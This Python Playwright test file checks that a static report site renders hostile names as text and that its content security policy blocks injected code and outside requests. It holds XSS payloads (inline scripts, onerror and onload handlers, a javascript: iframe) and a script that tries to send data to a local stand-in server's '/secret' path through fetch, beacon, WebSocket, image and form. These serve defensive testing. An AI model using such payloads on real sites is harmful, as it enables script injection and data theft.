"""Nothing that a script was named or wrote is anything but text, and no page loads anything
from elsewhere: tried in a real Chromium, and read in the files themselves."""

from __future__ import annotations

import re
import shutil
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import quote, unquote, urlsplit
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Page, expect

from harness.reports.text import safe
from harness.site import addresses
from tests.site import conftest as made
from tests.site import hostile
from tests.site.opened import KINDS, Watch, at

# ---------------------------------------------------------------------- hostile names and outputs

_OURS = ("site.js", "cells.js", "query.js")


_LOOK = """() => {
    document.querySelectorAll("details").forEach(one => one.open = true);
    const all = [...document.querySelectorAll("*")];
    const those = (test) => all.filter(test).map(one => one.outerHTML);
    return {
        pwned: typeof window.pwned,
        scripts: [...document.scripts].map(one => one.getAttribute("src")?.split("/").pop()),
        odd: those(one => [...one.attributes].some(a => /^on|^style$/i.test(a.name))
            || /^(IMG|IFRAME|OBJECT|EMBED|VIDEO|AUDIO|STYLE|BASE)$/.test(one.tagName)),
    };
}"""


def nothing_ran(page: Page) -> None:
    seen = page.evaluate(_LOOK)
    assert seen["pwned"] == "undefined"
    assert set(seen["scripts"]) <= set(_OURS)
    assert seen["odd"] == []


def test_hostile_names_and_outputs_are_text(disk: str, page: Page, watch: Watch) -> None:
    for name in hostile.NAMES.values():
        case = f"corpus/odd/{name}.py"
        page.goto(at(disk, addresses.case_page(case)))
        nothing_ran(page)
        assert page.locator("h1").text_content() == safe(case)
        output = page.evaluate(
            "[...document.querySelectorAll('pre')].map(one => one.textContent)+''"
        )
        assert "\\x00\\xff\\xfe\\x80 bytes\\r" in output
        assert "<script>window.pwned=1</script>" in output
        assert "abc\\u202egpj.exe" in output
    assert watch.said == []


def test_no_kind_of_page_runs_what_it_shows(server: str, page: Page, watch: Watch) -> None:
    for address in KINDS.values():
        page.goto(at(server, address))
        nothing_ran(page)
    assert watch.said == []


def test_a_hostile_query_is_text_too(disk: str, page: Page, watch: Watch) -> None:
    for name in ("image", "template", "hebrew", "percent"):
        text = 'case:"' + hostile.NAMES[name].replace('"', '\\"') + '"'
        page.goto(f"{disk}/cells.html?q={quote(text)}")
        expect(page.locator("#cells tbody tr")).to_have_count(5)
        assert page.title() == f"{text} · Cells · RustPython harness"
    page.goto(f"{disk}/cells.html?q={quote('status:<img src=x onerror=window.pwned=1>')}")
    expect(page.locator("#said b").first).to_contain_text("status:<img: not among")
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert watch.said == []


def test_names_look_the_same_in_the_filter(disk: str, page: Page) -> None:
    page.goto(f"{disk}/cells.html?q=case:corpus/odd/+column:rc")
    shown = set(page.locator("#cells tbody th").all_text_contents())
    assert shown == {safe(f"corpus/odd/{text}.py") for text in hostile.NAMES.values()}


def test_a_line_of_ten_megabytes_is_cut(site: Path, disk: str, page: Page) -> None:
    address = addresses.case_page(made.LONG_LINE)
    assert (site / address).stat().st_size < 200_000
    page.goto(at(disk, address))
    page.get_by_text("Outputs").first.click()
    expect(
        page.get_by_text("10.0 MB; the first 1 line; lines are cut at 300 characters").first
    ).to_be_visible()


# ---------------------------------------------------------------------- the policy


@dataclass
class Elsewhere:
    """A server that is not the site's, and what it was asked for."""

    address: str
    asked: list[str] = field(default_factory=list)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            known.asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            """Nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as web:
        known = Elsewhere(f"http://127.0.0.1:{web.server_port}")
        Thread(target=web.serve_forever, daemon=True).start()
        yield known
        web.shutdown()


_INJECTED = {
    "an inline script": ("<script>window.pwned = 1</script>", "script-src-elem"),
    "a handler": ('<img src="x" onerror="window.pwned = 1">', "script-src-attr"),
    "a handler in a picture": ('<svg onload="window.pwned = 1"></svg>', "script-src-attr"),
    "an address": ('<iframe src="javascript:parent.pwned = 1"></iframe>', "script-src-elem"),
    "a script of others": ('<script src="{0}/x.js"></script>', "script-src-elem"),
    "a picture": ('<img src="{0}/x.png">', "img-src"),
    "a sheet": ('<link rel="stylesheet" href="{0}/x.css">', "style-src-elem"),
    "a style": ("<style>body {{ background: url({0}/x.png) }}</style>", "style-src-elem"),
    "a frame": ('<iframe src="{0}/x.html"></iframe>', "frame-src"),
    "a base": ('<base href="{0}/">', "base-uri"),
    "an object": ('<object data="{0}/x.bin"></object>', "object-src"),
}


_LISTEN = """
    window.refused = [];
    addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
"""


def test_what_is_injected_does_not_run_and_loads_nothing(
    site: Path, tmp_path: Path, page: Page, elsewhere: Elsewhere
) -> None:
    """Even if a text did get into a page as markup."""
    for name in ("index.html", "style.css", "site.js", "icon.svg"):
        shutil.copy(site / name, tmp_path)
    whole = (tmp_path / "index.html").read_text()
    page.add_init_script(_LISTEN)
    for way, (markup, directive) in _INJECTED.items():
        made = whole.replace("</h1>", f"</h1>{markup.format(elsewhere.address)}", 1)
        (tmp_path / "index.html").write_text(made)
        page.goto((tmp_path / "index.html").as_uri())
        page.wait_for_function("directive => refused.includes(directive)", arg=directive)
        assert page.evaluate("typeof window.pwned") == "undefined", way
    assert elsewhere.asked == []


def test_no_request_to_elsewhere_is_let_through(
    root: str, page: Page, elsewhere: Elsewhere
) -> None:
    page.goto(f"{root}/index.html")
    attempts = f"""async () => {{
        const to = "{elsewhere.address}/secret";
        const tried = [];
        await fetch(to, {{ mode: "no-cors" }}).then(() => tried.push("fetch"), () => 0);
        tried.push(...[navigator.sendBeacon(to, "x") && "beacon"].filter(Boolean));
        try {{ new WebSocket(to.replace("http", "ws")); }} catch {{ }}
        const picture = new Image();
        await new Promise(done => {{
            picture.onload = picture.onerror = done;
            picture.src = to;
        }});
        const form = document.createElement("form");
        Object.assign(form, {{ action: to, method: "post" }});
        document.body.append(form);
        form.submit();
        return tried;
    }}"""
    page.evaluate(attempts)
    page.wait_for_timeout(300)
    assert page.url == f"{root}/index.html"
    assert elsewhere.asked == []


# ---------------------------------------------------------------------- the files themselves


class Parsed(HTMLParser):
    """What a page refers to, and the IDs it has."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.links: list[str] = []
        self.ids: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in ("href", "src", "action", "srcset", "data", "poster", "xlink:href"):
                self.links.append(value or "")
            if name == "id":
                self.ids.append(value or "")


def test_every_link_leads_to_a_file_and_a_place_in_it(site: Path) -> None:
    pages = {path: Parsed(path.read_text("utf-8")) for path in sorted(site.rglob("*.html"))}
    assert len(pages) > 60
    for path, page in pages.items():
        assert [name for name, count in Counter(page.ids).items() if count > 1] == [], path
        for link in page.links:
            parts = urlsplit(link)
            assert (parts.scheme, parts.netloc) == ("", ""), (path, link)
            target = (path.parent / unquote(parts.path)).resolve() if parts.path else path
            assert target.is_file(), (path, link)
            assert target.is_relative_to(site), (path, link)
            if parts.fragment and target in pages:
                assert unquote(parts.fragment) in pages[target].ids, (path, link)


def test_sheet_and_scripts_name_no_address(site: Path) -> None:
    for path in [*site.glob("*.css"), *site.glob("*.js")]:
        if path.name != "cells.js":
            text = re.sub(r"(?m)^\s*//.*| // .*", "", path.read_text())
            assert not re.search(r"https?:|url\(|@import|//\w|import\(|fetch\(", text), path


def test_badges_are_whole_pictures(site: Path, disk: str, page: Page) -> None:
    badges = sorted((site / "badge").rglob("*.svg"))
    assert len(badges) == 5 * (1 + 4)
    for path in badges:
        ElementTree.fromstring(path.read_text())
    page.goto(at(disk, addresses.badge(made.NEW_WASM, made.HOSTILE_AREA)))
    assert page.evaluate("document.documentElement.tagName") == "svg"
    assert page.evaluate("typeof window.pwned") == "undefined"
